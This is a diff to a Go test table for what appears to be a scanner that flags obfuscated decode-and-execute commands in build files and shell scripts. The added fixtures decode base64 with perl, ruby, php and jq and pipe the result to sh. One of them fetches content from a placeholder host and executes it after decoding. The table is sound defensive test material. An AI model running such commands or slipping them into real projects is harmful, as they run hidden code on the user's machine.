@@ -144,6 +144,13 @@ var registry = []Rule{
 			{"Tiltfile", "local('echo $P | base64 -d > /tmp/x.sh && sh /tmp/x.sh')", 0, false},
 			{"serverless.yml", "service: app\ncustom:\n  scripts:\n    hooks:\n      'before:deploy:deploy': X=$(echo $P | base64 -d); eval \"$X\"", 0, false},
 			{"Tiltfile", "local_resource('compile', cmd='go build -o bin/app ./cmd/app', deps=['./cmd', './internal'])\nk8s_yaml(local('kustomize build deploy/dev'))", 0, true},
+			// An interpreter's inline program or jq that decodes prints
+			// decoded text; grep or a case change in perl does not.
+			{"x.sh", "echo \"$P\" | perl -MMIME::Base64 -ne 'print decode_base64($_)' | sh", 0, false},
+			{"x.sh", "ruby -e 'print ARGV[0].unpack1(\"m\")' \"$P\" | bash", 0, false},
+			{"x.sh", "php -r 'echo base64_decode($argv[1]);' \"$P\" | sh", 0, false},
+			{"x.sh", "curl -s https://api.x.invalid/cfg | jq -r '.s | @base64d' | sh", 0, false},
+			{"x.sh", "perl -ne 'print if /^export /' env.sh | sh", 0, true},
 			// Decoded text handed on by xargs, install /dev/stdin, mapfile.
 			{"x.sh", "echo $P | base64 -d | xargs -I{} sh -c '{}'", 0, false},
 			{"x.sh", "echo $P | base64 -d | install -m 755 /dev/stdin /usr/local/bin/t && t", 0, false},
